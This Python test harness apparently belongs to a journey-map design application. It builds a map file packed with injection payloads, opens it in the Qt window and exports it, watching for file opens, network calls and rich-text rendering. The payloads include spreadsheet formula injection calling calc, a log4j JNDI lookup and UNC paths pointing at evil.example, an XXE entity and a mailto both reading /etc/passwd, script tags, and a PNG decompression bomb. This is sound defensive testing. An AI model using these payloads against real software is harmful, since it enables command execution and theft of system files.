"""A stranger's map in a process of its own: opened in the window, everything shown, exported to every format.

Prints as JSON what was opened, connected to or started meanwhile, which words could be shown as rich text, and which
modules were imported. Run by `test_hostile_map.py`: `python -m tests.gui.hostile FOLDER`.
"""

import base64
import ctypes
import json
import os
import struct
import sys
import time
from pathlib import Path

SEEN: list[str] = []


def _watch(event: str, args: tuple[object, ...]) -> None:
    if event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork",
                         "webbrowser.", "urllib.", "ftplib.", "http.", "smtplib.", "os.startfile")):
        SEEN.append(f"{event} {args!r}"[:300])
    if event == "open" and isinstance(args[0], str | bytes):
        SEEN.append(f"open {os.fsdecode(args[0])} {args[1]}")


class Traps:
    """Files that only a broken promise opens. The kernel tells, so that Qt's own calls count as well."""

    IN_OPEN = 0x20

    def __init__(self, paths: list[Path]) -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        self.handle = libc.inotify_init1(os.O_NONBLOCK)
        for path in paths:
            if libc.inotify_add_watch(self.handle, os.fsencode(path), self.IN_OPEN) < 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

    def sprung(self) -> int:
        """How often one was opened."""
        try:
            return len(os.read(self.handle, 65_536)) // struct.calcsize("iIII")
        except BlockingIOError:
            return 0


def words(trap: Path) -> list[str]:
    """Texts that rich text, spreadsheets, terminals and links would do something with."""
    return [
        f"<img src='file://{trap}'>", f'<img src="{trap}"/>', f"<a href='file://{trap}'>go</a>", "<b>bold</b>",
        f'<link rel="stylesheet" href="{trap}"><style>@import "{trap}";</style>', "R&D <team> says 5 < 6 & more",
        "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "x;=1+1", "=HYPERLINK(\"http://evil.example\")",
        "javascript:alert(1)", f"file://{trap}", f"FILE:{trap}", "\\\\evil.example\\share\\x.png",
        "//evil.example/share", "https://user:pass@evil.example/", "data:text/html,<script>alert(1)</script>",
        "\u202egnp.exe\u202c", "a\u2028b\u2029c", "\x00\x1b[31m\x07", "<script>alert(1)</script>", "]]><x>", "-->",
        "${jndi:ldap://evil.example/x}", "{0.__class__}", "%s%n", "%(x)s", "{name}", "&lt;&#x27;&quot;", "<para><font",
        "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "mailto:a@b.example?attach=/etc/passwd",
        "\N{COMBINING ACUTE ACCENT}" * 50, "🙂\u200d" * 30,
    ]


def hostile_map(trap: Path) -> dict[str, object]:
    """A map that has such a text in every field, as ids and as unknown things, and bombs for pictures."""
    texts = words(trap)
    turn = iter(range(10**6))

    def text() -> str:
        return texts[next(turn) % len(texts)]

    kinds = ("action", "touchpoint", "thought", "emotion", "pain_point", "opportunity", "metric", "quote", "note",
             "image", "<img src=x>")
    stages = {f"<b>{n}": {"rank": f"a{n}", "name": text(), "time": text()} for n in range(3)}
    lanes = {f"../../{n}": {"rank": f"a{n}", "kind": kind, "name": text(), "prompt": text(), "personas": ["p'\""],
                            "prompts": {"<b>0": text()}} for n, kind in enumerate(kinds)}
    cards: dict[str, dict[str, object]] = {}
    for n in range(len(texts)):
        kind = kinds[n % len(kinds)]
        cards[f"<c{n}>&\u202e"] = {
            "rank": f"a{n % 10}", "kind": kind, "stage": f"<b>{n % 3}", "lane": f"../../{n % len(kinds)}",
            "text": text(), "details": text(), "owner": text(), "tags": [text(), text()], "evidence": "interview",
            "evidence_source": text(), "channel": text(), "value": text(), "unit": text(), "target": text(),
            "source": text(), "speaker": text(), "alt": text(), "personas": ["p'\""],
            **({"picture": "bomb"} if kind == "image" else {}), "x-<b>": text(), "severity": "<img src=x>"}
    keys = list(cards)
    for key, long in zip(keys, ("W" * 5_000, "ký tự " * 2_000, "\n" * 100), strict=False):
        cards[key]["text"] = long
    bomb = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 20_000, 20_000) + b"\x08\x06\0\0\0" + bytes(4)
    return {
        "format": "cjdesigner/map", "schema": 2, "min_reader": 2, "id": "<m>", "title": text(), "scenario": text(),
        "author": text(), "version": text(), "date": text(), "footer": text(), "language": "en",
        "personas": {"p'\"": {"rank": "a0", "name": text(), "age": text(), "occupation": text(), "location": text(),
                              "interests": text(), "quote": text(), "goals": text(), "needs": text(),
                              "frustrations": text(), "channels": [text(), text()]}},
        "stages": stages, "lanes": lanes, "cards": cards,
        "links": {f"k{n}": {"rank": "a0", "source": keys[n], "target": keys[n + 1], "label": text()} for n in range(9)},
        "comments": {f"q{n}": {"rank": "a0", "card": keys[n], "author": text(), "text": text(), "date": text()}
                     for n in range(len(texts))},
        "votes": {f"v{n}": {"card": keys[0], "voter": text()} for n in range(9)},
        "parked": {f"r{n}": {"rank": "a0", "kind": kinds[n % 11], "text": text()} for n in range(12)},
        "agenda": {f"g{n}": {"rank": "a0", "name": text(), "note": text(), "minutes": 5} for n in range(9)},
        "pictures": {"bomb": {"type": "image/png", "width": 20_000, "height": 20_000,
                              "data": base64.b64encode(bomb).decode()}},
        "boards": {"<b>": {"name": text()}}, text(): text(),
    }


def main(folder: Path) -> None:
    """Does it all in a folder."""
    trap = folder / "trap.png"
    trap.write_bytes(b"x")
    file = folder / "hostile.cjmap"
    file.write_text(json.dumps(hostile_map(trap), ensure_ascii=False), "utf-8")
    traps = Traps([trap])
    sys.addaudithook(_watch)
    rich = _in_the_window(file)
    _exported(file, folder)
    from cjdesigner.files.format import from_bytes, to_bytes

    opened = from_bytes(file.read_bytes())
    same = from_bytes(to_bytes(opened.map)).map == opened.map
    maps = Path("/proc/self/maps").read_text("utf-8", errors="replace") if Path("/proc/self/maps").exists() else ""
    print(json.dumps({"seen": SEEN, "sprung": traps.sprung(), "rich": rich, "modules": sorted(sys.modules),
                      "network": "Qt6Network" in maps, "same": same, "problems": len(opened.found)}))


def _in_the_window(file: Path) -> list[str]:
    from PySide6.QtWidgets import QApplication

    from cjdesigner.files.settings import Settings
    from cjdesigner.window.main import MainWindow

    app = QApplication.instance() or QApplication([])
    window = MainWindow(Settings(theme="light", language="en"))
    window.resize(1600, 1200)
    window.show()
    window.documents.open(file)
    until = time.monotonic() + 60
    while len(window.session.map.cards) < 9:
        app.processEvents()
        if time.monotonic() > until:
            raise RuntimeError("the map was not opened")
    rich: list[str] = []
    for name in ("workshop", "find", "commands", "filter", "outline", "preflight", "minimap"):
        if (action := window.actions_by_id.get(name)) is not None:
            action.trigger()
            app.processEvents()
            rich += _rich_words()
    journey = window.session.map
    seen: set[str] = set()
    for card in journey.cards.values():
        if card.kind not in seen:
            seen.add(card.kind)
            window.choose_from_outline(card.id)
            app.processEvents()
            rich += _rich_words()
    for key in (*list(journey.stages)[:1], *list(journey.lanes)[:1], *journey.personas):
        window.choose_from_outline(key)
        app.processEvents()
        rich += _rich_words()
    image = window.grab().toImage()
    rich += [] if image.width() else ["nothing was painted"]
    return sorted(set(rich))


def _rich_words() -> list[str]:
    """Words on the screen that Qt would read as rich text."""
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QAbstractItemView, QApplication, QLabel

    found: list[str] = []
    for widget in QApplication.allWidgets():
        if isinstance(widget, QLabel) and widget.textFormat() != Qt.TextFormat.PlainText and "<" in widget.text():
            found.append(f"label {widget.objectName()}: {widget.text()[:60]}")
        found += [f"tip of {type(widget).__name__}: {tip[:60]}" for tip in
                  (widget.toolTip(), widget.whatsThis()) if _may_be_rich(tip)]
        found += [f"tip of action: {each.toolTip()[:60]}" for each in widget.actions() if _may_be_rich(each.toolTip())]
        if isinstance(widget, QAbstractItemView) and (model := widget.model()) is not None:
            todo = [model.index(row, 0) for row in range(model.rowCount())]
            while todo:
                index = todo.pop()
                tip = index.data(Qt.ItemDataRole.ToolTipRole)
                if isinstance(tip, str) and _may_be_rich(tip):
                    found.append(f"tip in {type(widget).__name__}: {tip[:60]}")
                todo += [model.index(row, 0, index) for row in range(model.rowCount(index))]
    return found


def _may_be_rich(text: str) -> bool:
    from PySide6.QtGui import Qt  # it is there, not in QtCore, that Qt reads text

    return bool(text) and Qt.mightBeRichText(text)


def _exported(file: Path, folder: Path) -> None:
    from click.testing import CliRunner

    from cjdesigner.cli.program import Program
    from cjdesigner.export import FORMATS

    for end in (*FORMATS, ".mmd"):
        done = CliRunner().invoke(Program(), ["export", str(file), "-o", str(folder / f"out{end}")])
        if done.exit_code:
            raise RuntimeError(f"{end}: {done.output} {done.exception!r}") from done.exception


if __name__ == "__main__":
    main(Path(sys.argv[1]))
